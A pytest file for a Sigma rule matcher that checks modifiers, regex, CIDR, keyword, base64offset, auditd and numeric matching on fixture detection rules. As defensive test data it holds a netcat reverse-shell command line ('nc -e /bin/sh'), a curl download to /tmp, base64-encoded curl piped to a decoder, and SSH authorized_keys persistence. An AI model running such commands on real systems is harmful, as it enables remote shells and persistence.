"""The Sigma matcher on rows: every modifier and condition form, on fixture rules of our own."""

from __future__ import annotations

from pathlib import Path

import pytest

from processors.detect.sigma import FULLTEXT, CompiledRule, RuleSelection, load_sigma_rules

RULES = Path(__file__).parent / "rules"


@pytest.fixture(scope="module")
def rules() -> dict[str, CompiledRule]:
    loaded = load_sigma_rules([RULES])
    assert loaded.errors == []
    return {rule.title.removeprefix("Fixture "): rule for rule in loaded.rules}


def _row(**fields: str | None) -> dict[str, str | None]:
    return {key.lower(): value for key, value in fields.items()}


def test_string_modifiers(rules: dict[str, CompiledRule]) -> None:
    rule = rules["every string modifier"]
    assert rule.predicate(_row(Image="/usr/bin/CURL", CommandLine="curl HTTP://x -o /tmp/a"))
    assert not rule.predicate(_row(Image="/usr/bin/curl", CommandLine="curl http://x"))  # |all needs -o too
    assert rule.predicate(_row(Image="/usr/bin/curl", CommandLine="curl /k x"))  # windash: / for -
    assert not rule.predicate(_row(Image="/usr/bin/curlx", CommandLine="curl http://x -o a"))
    assert rule.predicate(_row(CurrentDirectory="/TMP/x"))  # startswith, case-insensitive
    assert rule.predicate(_row(ParentImage="/usr/bin/bash"))  # ? is one character
    assert not rule.predicate(_row(ParentImage="/usr/bin/ash"))
    assert rule.predicate(_row(User="Mallory"))
    assert not rule.predicate(_row(User="mallory"))  # |cased
    assert not rule.predicate(_row())


def test_regex_cidr_null_exists(rules: dict[str, CompiledRule]) -> None:
    rule = rules["regex, null, exists, cidr, numbers"]
    assert rule.predicate(_row(CommandLine="NC -e /bin/sh 1.2.3.4"))
    assert not rule.predicate(_row(CommandLine="nc -l 4444"))
    assert rule.predicate(_row(DestinationIp="10.1.2.3", DestinationPort="4444"))
    assert rule.predicate(_row(DestinationIp="192.168.7.1", DestinationPort="4444"))
    assert not rule.predicate(_row(DestinationIp="11.1.2.3", DestinationPort="4444"))
    assert not rule.predicate(_row(DestinationIp="10.1.2.3", DestinationPort="44444"))
    # null: a hostname present fails the filter; exists: a parent command line present fails the rule
    assert not rule.predicate(_row(DestinationIp="10.1.2.3", DestinationPort="4444", DestinationHostname="a.b"))
    assert not rule.predicate(_row(DestinationIp="10.1.2.3", DestinationPort="4444", ParentCommandLine="bash"))


def test_keywords_search_the_full_text(rules: dict[str, CompiledRule]) -> None:
    rule = rules["base64offset and keywords"]
    assert rule.source == "keyword"
    assert rule.predicate({FULLTEXT: "kernel: a.out[12]: SEGFAULT at 0 ip"})
    assert rule.predicate({FULLTEXT: "an evil little payload"})
    # base64 of "curl http" at each of the three offsets
    for encoded in ("Y3VybCBodHRw", "N1cmwgaHR0c", "jdXJsIGh0dH"):
        assert rule.predicate({FULLTEXT: f"echo {encoded} | base64 -d"}), encoded
    assert not rule.predicate({FULLTEXT: "nothing here"})
    assert not rule.predicate({"message": "segfault at"})  # keywords read the full text only


def test_auditd_all_of_them(rules: dict[str, CompiledRule]) -> None:
    rule = rules["auditd records"]
    assert rule.techniques == ("T1098",) and rule.subtechniques == ("T1098.004",)
    assert rule.tactics == (("TA0003", "Persistence"),)
    assert rule.predicate(_row(type="SYSCALL", SYSCALL="init_module"))
    assert rule.predicate(_row(type="PATH", name="/root/.ssh/authorized_keys", nametype="CREATE"))
    assert not rule.predicate(_row(type="PATH", name="/root/.ssh/authorized_keys", nametype="NORMAL"))
    assert not rule.predicate(_row(type="EXECVE", SYSCALL="init_module"))  # all of syscall_*
    assert not rule.predicate(_row(type="SYSCALL", SYSCALL="finit_module"))


def test_numeric_comparisons(rules: dict[str, CompiledRule]) -> None:
    rule = rules["numeric comparisons"]
    assert rule.predicate(_row(ProcessId="100", ParentProcessId="9"))
    assert rule.predicate(_row(ProcessId="1000", ParentProcessId="1"))  # numeric, not text, order
    assert not rule.predicate(_row(ProcessId="99", ParentProcessId="1"))
    assert not rule.predicate(_row(ProcessId="abc", ParentProcessId="1"))
    assert not rule.predicate(_row(ProcessId="100", ParentProcessId="10"))


def test_rule_metadata(rules: dict[str, CompiledRule]) -> None:
    rule = rules["every string modifier"]
    assert rule.id == "5f0c1d2e-0001-4a00-8000-000000000001"
    assert (rule.level, rule.severity, rule.status, rule.author) == ("high", 73, "test", "secstream tests")
    assert rule.version == "2026-12-07" and rule.ruleset == "rules"


@pytest.mark.parametrize(
    ("selection", "expected"),
    [
        (RuleSelection(), 5),
        (RuleSelection(ids=("5f0c1d2e-0001-4a00-8000-000000000002",)), 1),
        (RuleSelection(exclude_ids=("5f0c1d2e-0001-4a00-8000-000000000002",)), 4),
        (RuleSelection(tags=("attack.t1059.004",)), 1),
        (RuleSelection(statuses=("test",)), 3),
        (RuleSelection(min_level="high"), 2),
    ],
)
def test_selection(selection: RuleSelection, expected: int) -> None:
    assert len(load_sigma_rules([RULES], selection).rules) == expected


def test_bad_rules_are_reported_with_file_and_line_and_do_not_stop_the_others(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text((RULES / "modifiers.yml").read_text())
    (tmp_path / "broken.yml").write_text("title: x\ndetection: [unclosed\n")
    (tmp_path / "bad_modifier.yml").write_text(
        "title: ok\nlogsource: {product: linux}\ndetection:\n  sel: {a: 1}\n  condition: sel\n---\n"
        "title: bad\nlogsource: {product: linux}\ndetection:\n  sel:\n    a|nosuch: 1\n  condition: sel\n"
    )
    (tmp_path / "bad_condition.yml").write_text(
        "title: cond\nlogsource: {product: linux}\ndetection:\n  sel: {a: 1}\n  condition: sel and nosuch\n"
    )
    (tmp_path / "bad_regex.yml").write_text(
        "title: re\nlogsource: {product: linux}\ndetection:\n  sel:\n    a|re: '(?<=x)y'\n  condition: sel\n"
    )
    loaded = load_sigma_rules([tmp_path])
    messages = sorted(str(error) for error in loaded.errors)
    assert len(messages) == 4, messages
    assert any(m.startswith(f"{tmp_path / 'broken.yml'}:3: not valid YAML") for m in messages), messages
    assert any(m.startswith(f"{tmp_path / 'bad_modifier.yml'}:7: bad:") and "nosuch" in m for m in messages)
    assert any(m.startswith(f"{tmp_path / 'bad_condition.yml'}") and "nosuch" in m for m in messages)
    assert any(m.startswith(f"{tmp_path / 'bad_regex.yml'}") for m in messages)
    assert len(loaded.rules) == 6  # the five good fixtures and "ok"


def test_rules_for_other_products_are_skipped_with_a_reason(tmp_path: Path) -> None:
    (tmp_path / "win.yml").write_text(
        "title: win\nlogsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel: {Image: x}\n  condition: sel\n"
    )
    loaded = load_sigma_rules([tmp_path])
    assert loaded.rules == [] and loaded.errors == []
    assert loaded.skipped[0][1].startswith("no secstream view for logsource")
